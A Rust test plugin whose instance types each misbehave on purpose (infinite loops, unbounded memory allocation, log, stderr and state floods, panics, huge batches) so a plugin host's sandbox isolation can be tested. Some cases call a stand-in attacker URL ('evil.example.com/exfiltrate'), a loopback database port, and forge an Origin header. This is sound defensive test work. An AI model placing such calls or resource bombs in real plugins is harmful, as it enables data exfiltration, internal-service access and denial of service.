//! Test plugin: each instance type misbehaves in one way (or, for `ok`,
//! behaves), so the suite can check that a bad plugin fails only its own run.

use inlet_plugin_sdk::prelude::*;
use inlet_plugin_sdk::{SignatureScheme, WebhookAuth, records, verify_signature};
use serde_json::json;

struct Misbehave;

fn instance_type(id: &str, description: &str) -> InstanceType {
    InstanceType {
        id: id.into(),
        name: id.into(),
        description: description.into(),
        kind: InstanceKind::Integration,
        default_schedule: Schedule::Manual,
        hosts: vec![],
        config_schema: "{}".into(),
        default_backfill_days: 0,
    }
}

impl Plugin for Misbehave {
    fn describe() -> Manifest {
        Manifest {
            id: "misbehave".into(),
            name: "Misbehave".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            description: "Fails on purpose, for tests".into(),
            auth: AuthKind::None,
            webhook: Some(WebhookAuth::Signature),
            rate_limit: None,
            // As a bank behind GoCardless: 4 a day per account and endpoint.
            quotas: vec![Quota {
                id: "balances".into(),
                url: "https://quota.test/accounts/*/balances/".into(),
                requests: 4,
                period: QuotaPeriod::Day,
            }],
            needs_raw_credentials: false,
            instance_types: vec![
                instance_type("ok", "emits one batch with one object"),
                instance_type("noop", "returns at once, for benchmarks"),
                instance_type("loop", "never returns"),
                instance_type("alloc", "allocates memory until something stops it"),
                instance_type("undeclared-host", "calls a host it did not declare"),
                instance_type("loopback", "calls 127.0.0.1 directly"),
                instance_type("giant-emit", "emits a 16 MiB batch"),
                instance_type("log-flood", "writes 100,000 log lines, then succeeds"),
                instance_type("state-write", "stores a secret in its state"),
                instance_type("state-peek", "reports what it can read of state key \"secret\""),
                instance_type("trap", "panics in fetch"),
                instance_type(
                    "slow",
                    "emits thing-1, checkpoints, logs, sleeps 3 s (config sleep_seconds), emits thing-2, logs; resumes after thing-1",
                ),
                instance_type("sleep", "sleeps for an hour in fetch (blocked in a host call, not running wasm)"),
                InstanceType {
                    hosts: vec!["hang.test".into()],
                    ..instance_type("hang-upstream", "requests https://hang.test/, which never answers")
                },
                instance_type("stderr-flood", "prints 1 MiB to stderr, then succeeds"),
                instance_type("state-flood", "sets 200,000 state keys of 16 KiB each"),
                instance_type("slow-process", "emits one batch whose processing sleeps 2 s (config: sleep_ms)"),
                instance_type("flaky-process", "emits a batch whose processing fails (transient) for its first 1.5 s"),
                instance_type("huge-error", "fails with a 1 MiB error message"),
                instance_type("bad-batch", "emits a batch whose processing fails for good"),
                instance_type(
                    "unstorable",
                    "emits three batches: one processed into a name with a NUL character, one into data that is not \
                     JSON, and a fine one",
                ),
                InstanceType {
                    hosts: vec!["echo.test".into()],
                    ..instance_type("set-origin", "sets an Origin header on a request to https://echo.test/")
                },
                InstanceType {
                    hosts: vec!["quota.test".into()],
                    ..instance_type(
                        "quota-spend",
                        "asks https://quota.test/accounts/<config account>/balances/ 3 times (4 a day allowed); \
                         succeeds with the answers it got, noting when the host refused one",
                    )
                },
                InstanceType {
                    kind: InstanceKind::Task,
                    ..instance_type(
                        "digest",
                        "a task: counts its group's \"thing\" objects a page of one at a time, and records the count",
                    )
                },
                instance_type(
                    "poll-later",
                    "succeeds and asks that the next run wait an hour, as GitHub's X-Poll-Interval does",
                ),
            ],
        }
    }

    fn fetch(request: FetchRequest) -> Result<FetchSummary, PluginError> {
        match request.instance_type.as_str() {
            "ok" => {
                emit_json("thing", &json!({"id": "thing-1", "name": "The thing"}))?;
                Ok(FetchSummary { items_seen: 1, ..Default::default() })
            }
            "noop" => Ok(FetchSummary { items_seen: 0, ..Default::default() }),
            "quota-spend" => {
                let config: serde_json::Value = inlet_plugin_sdk::parse_config(&request.config)?;
                let account = config["account"].as_str().unwrap_or("acc-1");
                let url = format!("https://quota.test/accounts/{account}/balances/");
                let mut answered = 0;
                for _ in 0..3 {
                    match http::get(&url).send() {
                        Ok(_) => answered += 1,
                        Err(PluginError::RateLimited(limited)) => {
                            let note = format!("refused by the quota; wait {} s", limited.retry_after_seconds);
                            return Ok(FetchSummary { items_seen: answered, note: Some(note), ..Default::default() });
                        }
                        Err(other) => return Err(PluginError::Transient(format!("{other:?}"))),
                    }
                }
                Ok(FetchSummary { items_seen: answered, ..Default::default() })
            }
            "digest" => {
                let (mut count, mut after) = (0, None);
                loop {
                    let query = records::ObjectQuery { kind: Some("thing".into()), after, limit: 1 };
                    let page = records::query_objects(&query).map_err(PluginError::Permanent)?;
                    count += page.objects.len();
                    match page.next {
                        Some(next) => after = Some(next),
                        None => break,
                    }
                }
                emit_json("digest", &json!({"id": "digest", "name": format!("{count} things")}))?;
                Ok(FetchSummary { items_seen: count as u64, ..Default::default() })
            }
            "poll-later" => Ok(FetchSummary::default().not_before(
                time::now() + 3_600_000,
                "the upstream asks to be polled at most hourly (X-Poll-Interval)",
            )),
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "alloc" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 16 << 20]);
                }
            }
            "undeclared-host" => {
                http::get("https://evil.example.com/exfiltrate").send()?;
                Ok(FetchSummary::default())
            }
            "loopback" => {
                http::get("http://127.0.0.1:5432/").send()?;
                Ok(FetchSummary::default())
            }
            "giant-emit" => {
                emit_json("thing", &json!({"id": "huge", "blob": "x".repeat(16 << 20)}))?;
                Ok(FetchSummary::default())
            }
            "log-flood" => {
                for n in 0..100_000 {
                    log::info(format!("line {n}"));
                }
                emit_json("thing", &json!({"id": "after-flood", "name": "still fine"}))?;
                Ok(FetchSummary { items_seen: 1, ..Default::default() })
            }
            "state-write" => {
                state::set("secret", "only-for-state-write");
                Ok(FetchSummary::default())
            }
            "state-peek" => {
                let seen = state::get("secret").unwrap_or_else(|| "nothing".into());
                emit_json("thing", &json!({"id": "peek", "name": seen}))?;
                Ok(FetchSummary { items_seen: 1, ..Default::default() })
            }
            "trap" => panic!("deliberate panic in fetch"),
            "slow" => {
                // A cursor in state makes a rescued run continue where the
                // killed one checkpointed, instead of starting over.
                if state::get("cursor").is_none() {
                    emit_json("thing", &json!({"id": "thing-1", "name": "First"}))?;
                    state::set("cursor", "thing-1");
                    checkpoint()?;
                }
                let config: serde_json::Value = serde_json::from_str(&request.config)?;
                log::info("thing-1 is stored; waiting before thing-2");
                std::thread::sleep(std::time::Duration::from_secs(config["sleep_seconds"].as_u64().unwrap_or(3)));
                emit_json("thing", &json!({"id": "thing-2", "name": "Second"}))?;
                log::info("thing-2 emitted");
                state::set("cursor", "thing-2");
                Ok(FetchSummary { items_seen: 1, ..Default::default() })
            }
            "sleep" => {
                std::thread::sleep(std::time::Duration::from_secs(3600));
                Ok(FetchSummary::default())
            }
            "hang-upstream" => {
                http::get("https://hang.test/").send()?;
                Ok(FetchSummary::default())
            }
            "stderr-flood" => {
                let line = "x".repeat(63);
                for _ in 0..16 * 1024 {
                    eprintln!("{line}");
                }
                println!("done printing");
                emit_json("thing", &json!({"id": "after-stderr", "name": "still fine"}))?;
                Ok(FetchSummary { items_seen: 1, ..Default::default() })
            }
            "state-flood" => {
                let value = "v".repeat(16 * 1024);
                for n in 0..200_000 {
                    state::set(&format!("key-{n}"), &value);
                }
                Ok(FetchSummary::default())
            }
            "slow-process" => {
                let config: serde_json::Value = inlet_plugin_sdk::parse_config(&request.config)?;
                let sleep_ms = config["sleep_ms"].as_u64().unwrap_or(2000);
                emit_json("slow", &json!({"id": "slow-1", "name": "Slow", "sleep_ms": sleep_ms}))?;
                Ok(FetchSummary { items_seen: 1, ..Default::default() })
            }
            "flaky-process" => {
                let until = time::now() + 1_500;
                emit_json("thing", &json!({"id": "flaky-1", "name": "Flaky", "transient_until_ms": until}))?;
                Ok(FetchSummary { items_seen: 1, ..Default::default() })
            }
            "huge-error" => Err(PluginError::Permanent("e".repeat(1 << 20))),
            "bad-batch" => {
                emit_json("thing", &json!({"id": "bad", "fail": "permanent"}))?;
                Ok(FetchSummary { items_seen: 1, ..Default::default() })
            }
            "unstorable" => {
                emit_json("thing", &json!({"id": "nul", "name": "a\u{0}b"}))?;
                emit_json("thing", &json!({"id": "not-json", "raw_data": "{not json"}))?;
                emit_json("thing", &json!({"id": "fine", "name": "Fine"}))?;
                Ok(FetchSummary { items_seen: 3, ..Default::default() })
            }
            "set-origin" => {
                http::get("https://echo.test/").header("Origin", "https://evil.example").send()?;
                Ok(FetchSummary::default())
            }
            other => Err(PluginError::InvalidConfig(format!("unknown instance type {other}"))),
        }
    }

    /// Accepts a delivery signed with the group's secret: Slack's `v0`
    /// headers, or a hex HMAC in `x-signature`. Routes its body to `ok`, but
    /// answers a Slack `url_verification` with its challenge and stores nothing.
    /// With `x-trap: before-verifying`, it traps before it checks anything.
    fn handle_webhook(delivery: WebhookDelivery) -> Result<WebhookOutcome, PluginError> {
        let header = |name: &str| delivery.headers.iter().find(|(k, _)| k.eq_ignore_ascii_case(name)).map(|(_, v)| v);
        if header("x-trap").is_some_and(|v| v == "before-verifying") {
            panic!("a bug met before the signature was checked");
        }
        let valid = match (header("x-slack-request-timestamp"), header("x-slack-signature"), header("x-signature")) {
            (Some(timestamp), Some(signature), _) => {
                verify_signature(&SignatureScheme::SlackV0(timestamp.clone()), &delivery.body, signature)
            }
            (_, _, Some(signature)) => verify_signature(&SignatureScheme::HmacSha256Hex, &delivery.body, signature),
            _ => false,
        };
        if !valid {
            return Err(PluginError::Unauthorized("the delivery's signature is invalid".into()));
        }
        let body: serde_json::Value = serde_json::from_slice(&delivery.body).unwrap_or_default();
        if body["type"] == "url_verification" {
            let challenge = body["challenge"].as_str().unwrap_or_default();
            return Ok(WebhookOutcome::default().answer("text/plain", challenge));
        }
        // A small delivery the plugin turns into more than a fetch may emit.
        if let Some(bytes) = body["inflate_to_bytes"].as_u64() {
            let payload = "x".repeat(bytes as usize);
            return Ok(vec![RoutedBatch {
                instance_type: "ok".into(),
                batch: RawBatch { kind: "thing".into(), payload },
            }]
            .into());
        }
        let payload = String::from_utf8_lossy(&delivery.body).into_owned();
        Ok(vec![RoutedBatch { instance_type: "ok".into(), batch: RawBatch { kind: "thing".into(), payload } }].into())
    }

    fn process(batch: RawBatch) -> Result<Records, PluginError> {
        let thing: serde_json::Value = serde_json::from_str(&batch.payload)?;
        if thing["fail"] == "permanent" {
            return Err(PluginError::Permanent("this batch cannot be processed".into()));
        }
        if thing["transient_until_ms"].as_i64().is_some_and(|until| time::now() < until) {
            return Err(PluginError::Transient("not processable yet".into()));
        }
        if let Some(ms) = thing["sleep_ms"].as_u64() {
            std::thread::sleep(std::time::Duration::from_millis(ms));
        }
        let mut records = Records::default();
        records.objects.push(ObjectRecord {
            external_id: thing["id"].as_str().unwrap_or_default().into(),
            kind: batch.kind,
            name: thing["name"].as_str().map(str::to_string),
            data: thing["raw_data"].as_str().map_or(batch.payload, str::to_string),
        });
        Ok(records)
    }
}

inlet_plugin_sdk::export_plugin!(Misbehave);
